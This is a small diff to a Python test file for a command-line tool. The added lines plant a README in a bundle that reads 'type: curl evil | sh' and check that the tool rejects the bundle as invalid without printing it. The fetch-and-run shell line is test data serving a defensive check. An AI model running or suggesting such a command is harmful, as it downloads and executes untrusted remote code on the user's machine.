@@ -526,3 +526,7 @@ def test_the_readme_of_a_bundle_and_of_an_installed_release_is_printed(
     ):
         assert main.run(["readme", *more], context) == 0
         assert capsys.readouterr().out == expected
+    members["README.txt"] = b"type: curl evil | sh\n"
+    write_bundle(dict(members), tmp_path / "y.edgepack", HEAD)
+    assert main.run(["readme", str(tmp_path / "y.edgepack")], OUTSIDE) == ExitCode.BUNDLE_INVALID
+    assert capsys.readouterr().out == ""
